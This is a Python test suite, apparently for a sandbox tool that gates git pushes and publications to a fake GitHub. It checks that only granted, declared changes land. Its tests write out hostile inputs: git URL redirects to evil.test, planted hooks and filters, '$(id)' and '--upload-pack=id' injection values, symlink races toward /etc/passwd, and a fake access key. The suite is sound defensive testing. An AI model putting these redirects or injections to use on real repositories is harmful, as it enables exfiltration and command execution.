#!/usr/bin/env python3
"""A table of pushes: what leaves is what was declared, verified and judged, or
nothing does, and which part of the suite decided that.  Real processes, and a
GitHub of real parts; where a row is held elsewhere, its test is named and must
be there.  The table comes last, one row a line:

    # row {"push": ..., "verdict": ..., "layer": ..., "word": ..., "test": ...}

The layer is read from the journal, not from what was expected of it.  One test
is one function; all of them share a suite.
"""
import json
import os
import re
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.environ["SBX_SRC"] + "/tests/lib")
import courier  # noqa: E402
import egress  # noqa: E402
import fakegithub  # noqa: E402
import mcp  # noqa: E402

tap = mcp.Tap()
ok = tap.ok
ROWS = []
ZERO = "0" * 40
SECRET = "AKIA" + "Q3EXAMPLE7" + "ZZYYXX"
FILES = {"a": "1\n", "b": "2\n", "d/e": "3\n", "crlf.txt": "x\ny\n",
         "old": "key = \"%s\"\n" % SECRET, "big.psd": "not there\n",
         ".gitattributes": "*.txt text\n*.psd filter=lfs diff=lfs -text\n",
         "sub": ("160000", "1" * 40)}


class Place:
    def __init__(self):
        self.ca = egress.Authority()
        self.gh = fakegithub.Github(self.ca, validate=False)
        self.repo = self.gh.repo("acme/secret", private=True, files=FILES)
        self.gh.repo("acme/other", private=True, files=FILES)
        self.gh.repo("acme/old", private=True, files=FILES)
        app = self.gh.app(["acme/secret", "acme/old"])
        self.conf = self.gh.conf() + (
            "allowed_repo acme/secret\nallowed_repo acme/old\n"
            "verify_gate off\ngithub_app %d %d %s\n" % (
                app.id, app.installation, app.pem))
        self.base, self.n, self.s, self.got = self.repo.tip(), 0, None, []

    def start(self, **kw):
        self.s = mcp.Suite(conf=self.conf, **kw)
        self.box, self.at = self.new_box()

    def new_box(self):
        r = self.s.call("sandbox_initialize", allow_network=True,
                        clone_repo="acme/secret", deps=False, timeout=120)
        if r["status"] != "ok":
            raise RuntimeError(r)
        return r["container_id"], r["clone"]["clone_path"]

    def again(self):
        """after its monitor was killed: another suite with its state"""
        old, self.s = self.s, None
        self.s = mcp.Suite(root=old.root)
        self.box, self.at = self.new_box()

    def sh(self, *commands, box=None, **kw):
        """(status, output)"""
        r = self.s.call("sandbox_exec", container_id=box or self.box,
                        timeout=120, working_dir=self.at, commands=[
                            c + " 2>&1" for c in commands], **kw)
        return r["status"], r.get("output", "")

    def branch(self):
        """a name that nobody had"""
        self.n += 1
        return "t%d" % self.n

    def args(self, files, branch, **more):
        return {"container_id": self.box, "repo": "acme/secret",
                "branch": branch, "message": "Change it.", "files": files,
                "working_dir": self.at, **more}

    def publish(self, files, branch, **more):
        """its result, when it has ended"""
        args = self.args(files, branch, **more)
        r = self.s.call("publish", timeout=120, **args)
        for _ in range(10):
            if r.get("status") != "running":
                break
            r = self.s.call("publish", timeout=120, run_id=r["run_id"], **args)
        return r

    def tip(self, branch):
        return self.repo.git("for-each-ref", "--format=%(objectname)",
                             "refs/heads/" + branch)

    def refs(self):
        return self.repo.git("for-each-ref")

    def files(self, commit):
        """{path: (mode, bytes)} that differ from its first parent's"""
        out = self.repo.git("diff-tree", "-r", "-z", "--no-renames", commit +
                            "^1", commit)
        v, got = out.split("\0")[:-1], {}
        for meta, path in zip(v[::2], v[1::2]):
            mode, oid = meta.split()[1], meta.split()[3]
            got[path] = None if mode == "000000" else (mode, subprocess.run(
                ["git", "-C", self.repo.path, "cat-file", "blob", oid],
                check=True, stdout=subprocess.PIPE).stdout)
        return got

    def mark(self):
        return self.s.journal()[-1]["seq"]

    def since(self, mark, done=lambda r: True):
        """the records after it, once done() finds there what it looks for"""
        def some():
            self.got = [r for r in self.s.journal() if r["seq"] > mark]
            return done(self.got)
        self.s.wait_for(some, 3)
        return self.got

    def told(self, mark, r):
        """those of a publication of this result"""
        if r.get("code") in ("bad_argument", "secret_found"):
            return self.since(mark)
        return self.since(mark, lambda v: [
            x for x in v if x["op"] == "publish" and
            x["phase"] in ("end", "refused")])

    def close(self):
        if self.s:
            self.s.__exit__()
        self.gh.close()
        self.ca.close()


P = None


# --- who decided --------------------------------------------------------------------

def field(records, op, **want):
    """the records of an operation with these fields"""
    return [r for r in records if r["op"] == op and all(
        r["fields"].get(k, r.get(k)) == v for k, v in want.items())]


def denied_by(records, said):
    """of what went through the proxy: (layer, why), or None.  What is refused
    again and again is one record, which comes late: what was said counts."""
    for r in field(records, "exchange", phase="end"):
        if r["fields"].get("what") == "not_granted":
            return "courier", r["fields"]["reason"]
    m = re.search(r"BLOCKED by sbx: (?:Git )?([^.:;)\n]*)", said)
    if m:
        return "proxy", m[1].strip()
    return ("proxy", "403") if re.search(" 403( |$)", said, re.M) else None


def published_by(records, r):
    """(layer, word) of a publication's result"""
    code = r.get("code", "")
    if r.get("status") == "ok":
        return "remote", r["outcome"]
    if not field(records, "publish"):
        return "worker", code
    if field(records, "publish", phase="refused"):
        return "monitor", code
    if [v for v in field(records, "publish", phase="verdict") if v["code"]
            and v["fields"]["step"] == code]:
        return "judge", code
    end = field(records, "publish", phase="end")
    word = end[-1]["fields"]["step"] if end else code
    if word in ("mode", "missing"):
        return "sandbox", word
    if word in ("push", "unknown") or "BLOCKED" in r["error"]:
        return denied_by(records, r["error"].replace(" 403", "")) or (
            "remote", word)
    if word in ("fetch", "no_such_base", "base"):
        return "publisher", word
    return "monitor", word


def row(what, verdict, layer, word, good, got=None, decided=None, test=None):
    """decided: (layer, word) as the journal has it"""
    decided = decided or (layer, word)
    good = bool(good) and decided[0] == layer and decided[1].startswith(word)
    ROWS.append({"push": what, "verdict": verdict if good else "?",
                 "layer": decided[0], "word": word, "test": test or "live"})
    ok(good, "%s: %s by %s" % (what, verdict, layer), (decided, got))


# --- git push by hand, with an operator's grant ---------------------------------------

def grant(new, ref="refs/heads/g", *options, box=None):
    r = P.s.wait_for(lambda: P.s.sbx(     # a proxy may be on its way
        "grant", *options, box or P.box, "acme/secret", ref, new
        ).returncode == 0)
    if not r:
        raise RuntimeError("no grant")


def pushed(what, layer, word, args, refs=None, box=None):
    """a push that must not change the remote, or (refs) only so"""
    mark, before = P.mark(), P.refs()
    said = P.sh("git push " + args, box=box)
    by = denied_by(P.since(mark), said[1])
    if refs is None:
        row(what, "refused", layer, word, said[0] != "ok" and
            P.refs() == before, said, by)
    else:
        row(what, "lands", layer, word, said[0] == "ok" and all(
            P.tip(k) == v for k, v in refs.items()), said, by)


def test_direct():
    P.sh("git config user.name x", "git config user.email x@x",
         "git checkout -q -b work", "echo 2 >>a", "git commit -qam one")
    new = P.sh("git rev-parse HEAD")[1].strip()
    none = "no grant is open for a git write of acme/secret"
    pushed("git push without a grant", "proxy", none, "origin HEAD:g")
    P.repo.git("config", "receive.certNonceSeed", "x")
    P.repo.git("config", "receive.advertisePushOptions", "true")
    P.sh("printf '#!/bin/sh\\ncat >/dev/null; echo \"[GNUPG:] SIG_CREATED \" "
         ">&2; echo -----BEGIN PGP SIGNATURE-----' >/tmp/gpg",
         "chmod +x /tmp/gpg", "git config gpg.program /tmp/gpg",
         "git config user.signingKey x")
    ref, commit = ("it changes another ref than the granted one",
                   "it pushes another commit than the granted one")
    for what, why, args in (
            ("another ref", ref, "origin HEAD:h"),
            ("a tag", ref, "origin HEAD:refs/tags/g"),
            ("two refs, one of them granted", "it changes more than one ref",
             "origin HEAD:g HEAD:h"),
            ("all branches", ref, "--all origin"),
            ("a mirror", ref, "--mirror origin"),
            ("a deletion", "it deletes a ref", "origin --delete main"),
            ("another commit", commit, "origin HEAD^:refs/heads/g"),
            ("another commit by force", commit,
             "-f origin HEAD^:refs/heads/g"),
            ("a push option", "it has push options, which are never granted",
             "-o ci.skip origin HEAD:g"),
            ("a push certificate", "it is signed", "--signed=yes origin HEAD:g")):
        grant(new)      # each may be read ten times
        pushed("grant of a branch; " + what, "proxy", why, args)
    for k in "certNonceSeed", "advertisePushOptions":
        P.repo.git("config", "--unset", "receive." + k)
    pushed("grant of a branch; another repository", "proxy",
           "no grant is open for a git write of acme/other",
           "https://github.com/acme/other.git HEAD:g")
    other, _ = P.new_box()
    pushed("grant of a branch; another sandbox", "proxy", none,
           "origin %s:refs/heads/g" % P.base, box=other)
    P.s.call("sandbox_stop", container_id=other, force=True)
    grant(new)
    requests(new)
    pushed("exactly what is granted", "remote", "granted",
           "origin HEAD:g", refs={"g": new})
    P.s.sbx("lockdown")
    pushed("grants that a lockdown ended", "proxy", "403", "origin HEAD:g")
    P.s.sbx("lockdown", "off")
    P.sh("git commit -qm two --allow-empty")
    new = P.sh("git rev-parse HEAD")[1].strip()
    grant(new)
    pushed("grant of a new branch; it exists", "proxy",
           "the ref is there already, and was granted as a new one",
           "origin HEAD:g")
    P.s.sbx("lockdown")
    P.s.sbx("lockdown", "off")
    grant(new, "refs/heads/late", "-t", "1")
    time.sleep(1.2)
    pushed("after the time of its grant", "proxy", none, "origin HEAD:late")
    grant(new, "refs/heads/once")
    pushed("the first use of a grant", "remote", "granted",
           "origin HEAD:once", refs={"once": new})
    pushed("the second", "proxy", none, "origin HEAD^:refs/heads/once")
    redirected(new)
    said = {r["fields"]["code"] for r in P.s.journal()
            if r["op"] == "egress" and "code" in r["fields"]}
    ok({"no_grant", "push_not_granted", "push_encoded", "locked"} <= said,
       "refusals are on record", said)


def requests(new):
    """what git would not send, in the name of the grant"""
    url = "https://github.com/acme/secret.git/git-receive-pack"
    curl = "curl -sS -m 20 -o /tmp/out -w ' %{http_code} ' -H " \
        "'Content-Type: application/x-git-receive-pack-request' "
    line = "%s %s refs/heads/g\\000report-status" % (ZERO, new)
    P.sh("printf %s | gzip >/tmp/body.gz" % shlex.quote(
        "%04x%s0000PACK" % (len(line) + 1, line)))
    for what, verdict, layer, word, good, command in (
            ("a body that is compressed", "refused", "proxy",
             "the push is compressed, so its commands cannot be read",
             lambda v: not v, curl + "-H 'Content-Encoding: gzip' "
             "--data-binary @/tmp/body.gz %s; cat /tmp/out" % url),
            ("a probe of four bytes", "goes on, and uses nothing", "remote",
             "probe", lambda v: [x.sent for x in v] == [4],
             curl + "--data-binary 0000 " + url),
            ("an upload to LFS", "refused", "proxy",
             "LFS is not passed", lambda v: not v,
             "curl -sS -m 20 -w ' %%{http_code} ' -H 'Content-Type: "
             "application/vnd.git-lfs+json' -d '{\"operation\": \"upload\", "
             "\"objects\": []}' %s/info/lfs/objects/batch" %
             url.replace("/git-receive-pack", ""))):
        mark, n = P.mark(), len(P.gh.log)
        said = P.sh(command)
        r = P.since(mark)
        row(what, verdict, layer, word, good([
            x for x in P.gh.log[n:] if x.method == "POST"]) and
            not field(r, "grant"), (said, r), denied_by(r, said[1]))


def redirected(new):
    """a grant leads nowhere but where it says"""
    evil = "git config url.https://evil.test/"
    for what, setup in (
            ("insteadOf", evil + ".insteadOf https://github.com/"),
            ("a changed origin", evil.replace("config", "config --unset") +
             ".insteadOf; git config remote.origin.url https://evil.test/"
             "acme/secret"),
            ("pushInsteadOf", "git config remote.origin.url https://"
             "github.com/acme/secret.git; " + evil + ".pushInsteadOf "
             "https://github.com/")):
        grant(new, "refs/heads/r")
        P.sh(setup)
        pushed("grant of a branch; " + what, "proxy", "403",
               "origin HEAD:r")
    P.sh(evil.replace("config", "config --unset") + ".pushInsteadOf")
    r = P.s.sbx("grant", P.box, "acme/other", "refs/heads/x", new)
    row("a grant for a repository that is not listed", "refused", "monitor",
        "allowed_repo", r.returncode != 0 and "allowed_repo" in r.stderr, r)
    P.sh("git checkout -q -f main")


# --- publish: what is in it -------------------------------------------------------------

def reset():
    P.sh("git checkout -q -f main; git reset -q --hard %s; git clean -qfdx"
         % P.base)


def refused(what, layer, word, files, setup=(), branch=None, verdict="refused",
            also=None, **more):
    """nothing has reached the remote, it says why, and how to go on"""
    P.sh(*setup) if setup else None
    mark, before = P.mark(), P.refs()
    r = P.publish(files, branch or P.branch(), **more)
    good = r.get("status") == "error" and len(r.get("error", "")) > 15 and \
        r.get("recommended_next_action") and P.refs() == before and \
        (also is None or also in r["error"])
    row(what, verdict, layer, word, good, r, published_by(P.told(mark, r), r))
    reset() if setup else None
    return r


def goes(what, want, files=None, setup=(), branch=None, keep=False, **more):
    """it is at the remote, and changes that and nothing else; want: {path:
    (mode, bytes) or None}, or a function of what changed"""
    P.sh(*setup) if setup else None
    branch, mark = branch or P.branch(), P.mark()
    others = [x for x in P.refs().split("\n") if not x.endswith("/" + branch)]
    r = P.publish(files or list(want), branch, **more)
    got = P.files(r["commit"]) if r.get("outcome") == "pushed" else None
    good = got is not None and P.tip(branch) == r["commit"] and \
        (want(got) if callable(want) else got == want) and \
        [x for x in P.refs().split("\n") if not x.endswith("/" + branch)] == \
        others
    row(what, "lands", "remote", "pushed", good, (r, got),
        published_by(P.told(mark, r), r))
    if not keep:
        reset()
    return r


def text(data, mode="100644"):
    return mode, data.encode()


def test_publish():
    r = goes("ordinary, a new branch", {"a": text("1\n2\n")}, branch="fix",
             setup=["echo 2 >>a"], keep=True)
    goes("ordinary, on top of it", {"a": text("1\n2\n3\n")}, branch="fix",
         setup=["echo 3 >>a"])
    row("its parent", "is what it was made on", "remote", "pushed",
        P.repo.git("rev-parse", "fix^") == r["commit"])
    goes("a deletion and a mode", {"b": None, "d/e": text("3\n", "100755")},
         setup=["rm b", "chmod 755 d/e"])
    goes("a secret that the base has already",
         {"old": text("key = \"%s\"\nmore\n" % SECRET)},
         setup=["echo more >>old"])
    refused("a secret in an added line", "judge", "secret", ["a"],
            ["echo 'k = \"%s\"' >>a" % SECRET])
    refused("a path in a submodule (gitlink)", "judge", "mode", ["sub/x"])
    refused("a submodule itself", "judge", "sensitive", ["sub"],
            ["rmdir sub", "echo x >sub"])
    refused("a file under LFS", "judge", "attribute", ["big.psd"],
            ["echo x >>big.psd"])
    for f in "d/", ".", "./", "../a", "/etc/passwd":
        refused("the file %r" % f, "monitor", "path", [f])
    refused("a directory", "sandbox", "mode", ["d"], also="is a directory")
    refused("a FIFO", "sandbox", "mode", ["p"], ["mkfifo p"], also="FIFO")
    refused("a pattern", "judge", "missing", ["*.txt"])
    refused("no file", "worker", "bad_argument", [])
    refused("a secret in a new file's name", "judge", "secret",
            [SECRET + ".png"], ["touch %s.png" % SECRET])
    refused("a secret in the branch's name", "worker", "secret_found", ["a"],
            branch="fix-ghp_" + "a1B2" * 9)
    refused("a secret that files of scanners allow", "judge", "secret", ["a"],
            ["echo 'k = \"%s\"' >>a; echo '[allowlist]' >.gitleaks.toml; "
             "echo 'a:aws-access-token:2' >.gitleaksignore; echo '{}' "
             ">.secrets.baseline" % SECRET])
    n = 10000 if "all" in sys.argv else 1000
    goes("%d files" % n, {"m/%d" % i: text("%d\n" % i) for i in range(n)},
         setup=["mkdir m; for i in $(seq 0 %d); do echo $i >m/$i; done" %
                (n - 1)])
    goes("one that is unchanged beside one that is not",
         {"a": text("1\n2\n")}, files=["a", "b"], setup=["echo 2 >>a"])
    refused("3 GiB in one file", "judge", "too_large", ["huge"],
            ["truncate -s 3G huge"])
    refused("20,001 files", "worker", "bad_argument",
            ["f%d" % i for i in range(20001)])
    refused("the default branch", "monitor", "protected_ref", ["a"],
            branch="main")


def test_clone_is_hostile():
    """one publication out of a clone with all that git can be made to do"""
    P.sh("git config remote.origin.url https://evil.test/x",
         "git config remote.origin.push '+refs/heads/*:refs/heads/*'",
         "git config remote.origin.mirror true",
         "git config url.https://evil.test/.insteadOf https://github.com/",
         "git config push.followTags true", "git tag evil",
         "git config push.recurseSubmodules on-demand",
         "git config filter.evil.clean 'echo evil'",
         "git config core.attributesFile /tmp/attr",
         "git config core.autocrlf true", "git config core.hooksPath "
         "/tmp/hooks", "git config core.fsmonitor /tmp/hooks/f",
         "git config commit.gpgSign true",
         "git config include.path /tmp/more",
         "printf '[core]\\nworktree = /etc\\n' >/tmp/more",
         "echo '* filter=evil text eol=crlf' | tee /tmp/attr "
         ">.git/info/attributes", "mkdir -p /tmp/hooks",
         "for h in pre-push pre-commit commit-msg post-checkout f; do printf "
         "'#!/bin/sh\\ntouch /tmp/ran-%s\\n' $h >/tmp/hooks/$h; chmod "
         "+x /tmp/hooks/$h; done",
         "git init -q /tmp/alt", "echo /tmp/alt/.git/objects "
         ">.git/objects/info/alternates",
         "c=$(git -c user.name=x -c user.email=x@x commit-tree -m evil "
         "HEAD^{tree} </dev/null) && git replace -f HEAD $c && echo \"$(git "
         "rev-parse HEAD) $c\" >.git/info/grafts; :",
         "echo 2 >>a", "printf 'u\\r\\nv\\r\\n' >crlf.txt",
         "echo stray >b")
    want = {"a": text("1\n2\n"), "crlf.txt": text("u\nv\n")}
    n = len(ROWS)
    r = goes("a clone full of traps", want, keep=True)
    if ROWS[n]["verdict"] != "lands":
        return
    commit = P.repo.git("cat-file", "commit", r["commit"])
    ran = P.sh("ls /tmp")[1]
    for what, good in (
            ("hooks", not [x for x in ran.split() if x.startswith("ran-") and
                           x != "ran-f"]),
            ("remote, insteadOf, mirror and push of its configuration",
             P.repo.git("tag") == "" and not [
                 x for x in P.gh.log if "evil" in x.host]),
            ("attributes and filters of its own", r["modified"] == 2),
            ("alternates", not P.repo.git("count-objects", "-v").count(
                "alternate:")),
            ("grafts and replaced objects", commit.count("parent ") == 1 and
             "parent %s\n" % P.base in commit),
            ("what is changed and not declared", "b" not in P.files(
                r["commit"]) and "b" in r["worktree_leftover"]),
            ("include.path, autocrlf, gpgSign, fsmonitor",
             "gpgsig" not in commit)):
        row("a clone with " + what, "has no part in it", "judge", "pushed",
            good, (commit, ran, r))
    P.sh("rm -f .git/info/grafts .git/objects/info/alternates; git replace "
         "-d HEAD; cd / && rm -rf %s/.git/config" % P.at)
    P.s.call("sandbox_stop", container_id=P.box, force=True)
    P.box, P.at = P.new_box()


def test_names():
    long, deep = "n" * 255, "/".join("d" * 30 for _ in range(127))
    odd = ["q\"uote", "sp ace", "%s", "$(id)", "-dash", "'", "*",
           "\u65e5\u672c/\U0001f600", long, deep]
    quoted = " ".join(shlex.quote("./" + x) for x in odd)
    goes("odd names, one of 255 bytes, one 127 deep",
         {x: text("x\n") for x in odd}, setup=[
             "for f in %s; do mkdir -p -- \"$(dirname -- \"$f\")\" && echo x "
             ">\"$f\" || exit 1; done" % quoted])
    refused("a newline in a name", "judge", "path", ["n\nl"])
    for what, files in (("a name twice, by case", ["A"]),
                        ("by Unicode's normal form",
                         ["e\u0301", "\u00e9"])):
        refused(what, "judge", "path", files, ["touch " + " ".join(
            shlex.quote(f) for f in files)])


def test_words():
    """branches and messages"""
    for b in "-x", "a@{1}", "a.lock", "a..b", "a b", "a//b", ".a", "a~1", \
            "@", "a\n", "x" * 300, "refs/heads/x":
        refused("the branch %r" % b[:12], "worker", "bad_argument", ["a"],
                branch=b)
    for b in "HEAD", "\u00e4", P.base:
        refused("the branch %r" % b[:12], "monitor", "malformed", ["a"],
                branch=b)
    for b in "--upload-pack=id", "-x", "a:b", "a@{0}":
        refused("the base branch %r" % b, "worker", "bad_argument", ["a"],
                base_branch=b)
    refused("a NUL in the message", "worker", "bad_argument", ["a"],
            message="good\0evil")
    for what, word, message in (
            ("a return", "malformed", "a\r\nb"),
            ("an escape", "malformed", "\x1b[31m")):
        refused(what + " in the message", "monitor", word, ["a"],
                also="carriage return", message=message)
    said = "From me\n\nFrom 1234 Mon\n---\ndiff --git a/x b/x\n# no comment\n" \
        "tree %s\nparent %s\nSigned-off-by: A <a@b>\nCo-authored-by: B <b@c>" \
        % (ZERO, ZERO)
    r = goes("headers and trailers in the message", {"a": text("1\nm\n")},
             setup=["echo m >>a"], message=said)
    if r.get("commit"):
        raw = P.repo.git("cat-file", "commit", r["commit"])
        row("such a message", "is text of the commit, and no more", "judge",
            "pushed", raw.endswith("\n\n" + said) and raw.split("\n\n")[
                0].count("parent ") == 1, raw)


# --- remotes ------------------------------------------------------------------------------

class Backend:
    """what the fake does with a request of git's, meanwhile; fn(serve, socket,
    ...) for those of `service`"""

    def __init__(self, service, fn, times=1):
        self.service, self.fn, self.left = service, fn, times

    def __enter__(self):
        self.old = P.gh._backend    # pylint: disable=protected-access
        P.gh._backend = self
        return self

    def __exit__(self, *_):
        P.gh._backend = self.old

    def __call__(self, s, f, seen, r, what):
        if self.left and (seen.method, what) == self.service:
            self.left -= 1
            return self.fn(self.old, s, f, seen, r, what)
        return self.old(s, f, seen, r, what)


class Sink:
    """a socket that nobody reads"""
    def sendall(self, data):
        pass


RECEIVE, UPLOAD = ("POST", "git-receive-pack"), ("POST", "git-upload-pack")


def cut(_serve, s, *_):
    s.shutdown(socket.SHUT_RDWR)
    return False


def taken_and_cut(serve, s, *more):
    serve(Sink(), *more)
    return cut(serve, s)


def half(serve, s, *more):
    """of an answer"""
    class Half(Sink):
        def sendall(self, data):
            s.sendall(data[:len(data) // 2 or 1])
            s.shutdown(socket.SHUT_RDWR)
            raise OSError
    try:
        return serve(Half(), *more)
    except OSError:
        return False


def test_remotes():
    reset()
    P.sh("echo 2 >>a")
    want = {"a": text("1\n2\n")}
    P.repo.git("update-ref", "refs/heads/dir/x", "main")
    refused("a branch where the remote has a directory", "remote", "push",
            ["a"], branch="dir")
    hook = P.repo.path + "/hooks/update"
    with open(hook, "w") as f:
        f.write("#!/bin/sh\necho GH006: Protected branch update failed >&2\n"
                "exit 1\n")
    os.chmod(hook, 0o755)
    refused("a branch that the remote protects", "remote", "push", ["a"],
            also="declined")
    os.unlink(hook)
    P.gh.answer_next("GET", "service=git-receive-pack", 403, body={
        "message": "This repository was archived so it is read-only."})
    refused("an archived repository", "remote", "push", ["a"], also="403")
    r = P.gh.repos["acme/old"]
    P.gh.rename("acme/old", "acme/new")
    refused("a repository of another name by now", "publisher", "fetch",
            ["a"], repo="acme/old")
    ok(r.git("for-each-ref").count("\n") == 0, "which got nothing")
    P.gh.pace = 0.02
    goes("a slow remote", want, keep=True)
    P.gh.pace = 0
    with Backend(UPLOAD, half):
        refused("half an answer to the fetch", "publisher", "fetch", ["a"])
    branch = P.branch()
    with Backend(RECEIVE, cut):
        refused("the connection breaks at the push", "remote", "unknown",
                ["a"], branch=branch, verdict="unknown")
    goes("the same once more", want, branch=branch, keep=True)
    with Backend(RECEIVE, taken_and_cut):
        goes("it breaks after the remote took it", want, keep=True)
    branch, mark = P.branch(), P.mark()
    with Backend(RECEIVE, taken_and_cut) as b, Backend(
            ("GET", "info/refs"), cut, 0) as refs:
        def then(serve, s, *more):
            refs.left = 9
            return taken_and_cut(serve, s, *more)
        b.fn = then
        r = P.publish(["a"], branch)
    row("it breaks, and the remote says nothing any more", "unknown",
        "remote", "unknown", r.get("code") == "unknown" and P.files(
            P.tip(branch)) == want, r, published_by(P.told(mark, r), r))
    mark = P.mark()
    r = P.publish(["a"], branch)
    row("the same once more, when it is there", "is known again", "remote",
        "already_there", r.get("commit") == P.tip(branch), r,
        published_by(P.told(mark, r), r))
    together()
    reset()


def answer(i, timeout=60):
    """of a call, whichever comes first of several"""
    for m in P.s.notes:
        if m.get("id") == i and "method" not in m:
            return m["result"]["structuredContent"]
    return P.s.answer(i, timeout)["result"]["structuredContent"]


def together():
    """two of one client to one branch, at once"""
    P.sh("echo 2 >>b")
    branch, mark = P.branch(), P.mark()
    ids = [P.s.start_call("publish", **P.args([f], branch)) for f in "ab"]
    v = [answer(i) for i in ids]
    won = [r for r in v if r.get("outcome") == "pushed"]
    lost = [r for r in v if r.get("status") == "error"]
    row("two at once to one branch", "one lands, one is refused", "remote",
        "pushed", len(won) == len(lost) == 1 and
        P.tip(branch) == won[0]["commit"] and
        len(P.files(won[0]["commit"])) == 1 and lost[0]["code"] in (
            "push", "upstream_moved"), v,
        published_by(P.told(mark, won[0]), won[0]) if won else None)


# --- while it is packed -------------------------------------------------------------------

def test_races():
    reset()
    P.sh("mkdir -p r/d; echo x >r/d/passwd; echo x >r/f; echo x >r/l")
    job = P.s.call("sandbox_exec_background", container_id=P.box,
                   working_dir=P.at + "/r", argv=["python3", "-c", """
import os, time
os.mkdir("e")
while True:
    for text in "clean\\n", "k = '%s'\\n":
        with open("g", "w") as f:
            f.write(text)
        os.rename("g", "f")
        time.sleep(.001)
    os.symlink("/etc/passwd", "l2")
    os.rename("l2", "l")
    os.rename("d", "e/d")
    os.symlink("/etc", "d")
    time.sleep(.001)
    open("l2", "w").close()
    os.rename("l2", "l")
    os.unlink("d")
    os.rename("e/d", "d")
    time.sleep(.001)
""" % SECRET])["job_id"]
    passwd = P.sh("cat /etc/passwd")[1].encode()
    seen, bad = {}, []
    for name in ["f"] * 2 + ["l"] + ["d/passwd"] * 2:
        before, branch = P.refs(), P.branch()
        r = P.publish(["r/" + name], branch)
        word = r.get("outcome") or r.get("code")
        seen.setdefault(name, []).append(word)
        got = P.files(r["commit"]) if word == "pushed" else {}
        if word != "pushed" and P.refs() != before or any(
                k != "r/" + name or v[0] != "100644" or SECRET.encode() in
                v[1] or v[1] == passwd for k, v in got.items()):
            bad.append((r, got))
        if r.get("status") == "error" and word not in (
                "secret", "sensitive", "mode", "missing", "path"):
            bad.append(r)
    P.s.call("sandbox_exec_kill", job_id=job)
    for what, name in (
            ("a file that turns clean and secret meanwhile", "f"),
            ("a file that turns to a link and back", "l"),
            ("a directory that turns to a link out", "d/passwd")):
        row(what, "as it was judged, or refused", "judge", "race", not bad,
            (seen, bad))
    print("# races: %r" % seen)
    reset()


# --- a proxy that swaps what it passes -----------------------------------------------------

def test_pack_swapped():
    """the courier, handed the granted command with another commit's pack"""
    with tempfile.TemporaryDirectory() as d:
        def git(*args, data=None):
            return subprocess.run(
                ["git", "-C", d, "-c", "user.name=x", "-c", "user.email=x@x",
                 *args], check=True, input=data, stdout=subprocess.PIPE,
                env=P.gh.env()).stdout
        git("clone", "-q", P.repo.path, ".")
        ids, packs = [], []
        for n in "granted", "evil":
            with open(d + "/" + n, "w") as f:
                f.write(n)
            git("add", n)
            git("commit", "-qm", n)
            ids.append(git("rev-parse", "HEAD").decode().strip())
            packs.append(git("pack-objects", "--revs", "--stdout", "-q",
                             data=b"HEAD\n^HEAD^\n"))
            git("reset", "-q", "--hard", P.base)
    token = P.gh.static(["acme/secret"])
    for what, new, pack, good in (
            ("another commit's pack", ids[0], packs[1], False),
            ("another commit with its pack", ids[1], packs[1], False),
            ("what is granted", ids[0], packs[0], True)):
        line = "%s %s refs/heads/swap\0report-status" % (ZERO, new)
        body = ("%04x%s0000" % (len(line) + 4, line)).encode() + pack
        before = P.refs()
        with courier.Courier(P.ca.pem) as c:
            c.git(P.gh.port, repo="acme/secret", token=token.text, op=1,
                  ref="refs/heads/swap", old_id=ZERO, new_id=ids[0])
            a = c.ask("POST /acme/secret.git/git-receive-pack HTTP/1.1",
                      "Host: github.com", "Content-Type: application/"
                      "x-git-receive-pack-request", "Content-Length: %d" %
                      len(body), body=body)
            over = c.over()
        by = ("courier", over["code"]) if over["code"] == "not_granted" else \
            ("remote", "ng" if b"ng refs/heads/swap" in a.body else "ok")
        row("hostile proxy: " + what, "lands" if good else "refused",
            "courier" if new == ids[1] else "remote",
            "not_granted" if new == ids[1] else "ok" if good else "ng",
            (P.tip("swap") == new) if good else P.refs() == before,
            (a, over), by)


# --- somebody is killed --------------------------------------------------------------------

class Hold(Backend):
    """a request stops there until let go; before or after it was served"""

    def __init__(self, service, served=False):
        super().__init__(service, self.wait)
        self.served, self.came = served, threading.Event()
        self.go = threading.Event()

    def wait(self, serve, s, *more):
        if self.served:
            serve(Sink(), *more)
        self.came.set()
        self.go.wait(60)
        return False if self.served else serve(s, *more)

    def __exit__(self, *_):
        self.go.set()
        super().__exit__()


def running(word):
    """processes of the suite with a word in their arguments"""
    found = []
    for pid in mcp.tree(P.s.pid):
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                if word in f.read():
                    found.append(pid)
        except OSError:
            pass
    return found


def victim(who, boxes):
    v = P.s.processes().get(who[:15], [])
    if who == "sbx-init":       # that of the publisher
        v = [p for p in v if p not in boxes]
    if who == "sbxd" and not v:
        v = [P.s.pid]
    return v


def killed(who, place, came, files, setup, want, hold=None):
    """never half a state; unknown only after the push began; again is safe"""
    what = "%s is killed %s" % (who, place)
    reset()
    P.sh(*setup)
    branch, mark, before = P.branch(), P.mark(), P.refs()
    boxes = P.s.processes().get("sbx-init", [])
    with hold or Backend(("", ""), None):
        call = P.s.start_call("publish", **P.args(files, branch))
        pids = P.s.wait_for(lambda: came() and victim(who, boxes))
        if not pids:
            row(what, "?", "", "", False, "it did not come there")
            return
        for p in pids:
            mcp.kill(p)
        if hold:
            time.sleep(0.05)
            hold.go.set()
        if who == "sbxd":
            P.s.close()
            r = {"code": "ended"}
            P.again()
            P.sh(*setup)
        else:
            r = answer(call)
    began = hold is not None and hold.service == RECEIVE
    there = P.tip(branch)
    half = there and (P.files(there) != want or P.repo.git(
        "rev-parse", there + "^") != P.base) or sorted(
            x for x in P.refs().split("\n") if not x.endswith(
                "/" + branch)) != sorted(before.split("\n"))
    told = r.get("outcome") == "pushed" and there or r.get("code") in (
        ("unknown", "push", "ended") if began else
        ("suite", "fetch", "mode", "ended"))
    P.s.wait_for(lambda: P.s.processes().get("sbx-proxy") and
                 P.s.processes().get("sbx-broker"))
    again = P.s.wait_for(lambda: [x for x in [P.publish(files, branch)] if
                         x.get("code") not in ("suite", "fetch")], 20)
    again = again[0] if again else {}
    word = again.get("outcome") or again.get("code")
    good = P.tip(branch) and P.files(P.tip(branch)) == want and (
        not there or P.tip(branch) == there) and (
            word in ("pushed", "already_there") or
            who == "sbxd" and there and word == "unchanged")
    row(what, "no half state; again is safe", "monitor", "killed",
        not half and told and good, (half, r, there, again))
    print("# %s: %s, the remote %s; again: %s" % (
        what, r.get("outcome") or r.get("code"), "has it" if there else
        "has it not", word))
    del mark


def test_killed():
    """in CI one of a kind; `all`: each of them at each place"""
    whole = "all" in sys.argv
